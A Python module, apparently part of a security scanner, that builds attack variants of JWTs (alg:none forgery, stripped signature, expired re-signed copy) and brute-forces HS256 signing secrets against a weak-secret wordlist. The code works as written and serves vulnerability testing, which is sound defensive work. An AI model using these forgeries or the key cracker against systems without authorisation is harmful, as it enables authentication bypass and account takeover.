"""JWT (RFC 7519 / RFC 7515) variants for the API2 checks, and offline HS256 cracking.

Forging is what an attacker does with a token they hold: ``alg: none`` (RFC 7518 §3.6,
which RFC 8725 §3.1 says must be rejected), a stripped signature, an expired copy (only
when the HMAC secret is known), and a brute force of the HMAC key against a wordlist.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from importlib import resources
from typing import Any

__all__ = ["crack_hs256", "decode", "forge_none", "sign_hs256", "strip_signature", "wordlist"]


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def _unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def decode(token: str) -> tuple[dict[str, Any], dict[str, Any]] | None:
    """(header, claims) of a compact JWS, without any verification; None if not a JWT."""
    parts = token.split(".")
    if len(parts) != 3:
        return None
    try:
        header, claims = json.loads(_unb64(parts[0])), json.loads(_unb64(parts[1]))
    except ValueError:
        return None
    if not isinstance(header, dict) or not isinstance(claims, dict) or "alg" not in header:
        return None
    return header, claims


def forge_none(token: str) -> str:
    parts = token.split(".")
    header = _b64(json.dumps({"alg": "none", "typ": "JWT"}, separators=(",", ":")).encode())
    return f"{header}.{parts[1]}."


def strip_signature(token: str) -> str:
    parts = token.split(".")
    return f"{parts[0]}.{parts[1]}."


def sign_hs256(secret: bytes, header: dict[str, Any], claims: dict[str, Any]) -> str:
    head = _b64(json.dumps({**header, "alg": "HS256"}, separators=(",", ":")).encode())
    body = _b64(json.dumps(claims, separators=(",", ":")).encode())
    signature = hmac.new(secret, f"{head}.{body}".encode(), hashlib.sha256).digest()
    return f"{head}.{body}.{_b64(signature)}"


def expired_copy(secret: bytes, token: str, now: float | None = None) -> str | None:
    decoded = decode(token)
    if decoded is None:
        return None
    header, claims = decoded
    moment = int(now if now is not None else time.time())
    return sign_hs256(secret, header, {**claims, "iat": moment - 7200, "exp": moment - 3600})


def wordlist() -> list[str]:
    text = (
        resources.files("bastion.scanner").joinpath("data/jwt-weak-secrets.txt").read_text("utf-8")
    )
    return [line for line in text.splitlines() if line and not line.startswith("#")]


def crack_hs256(token: str, words: list[str]) -> bytes | None:
    """The HMAC key from ``words`` that verifies ``token``, if any (constant-time compare)."""
    decoded = decode(token)
    if decoded is None or decoded[0].get("alg") != "HS256":
        return None
    head, body, signature = token.split(".")
    try:
        wanted = _unb64(signature)
    except ValueError:
        return None
    message = f"{head}.{body}".encode()
    for word in words:
        key = word.encode()
        if hmac.compare_digest(hmac.new(key, message, hashlib.sha256).digest(), wanted):
            return key
    return None
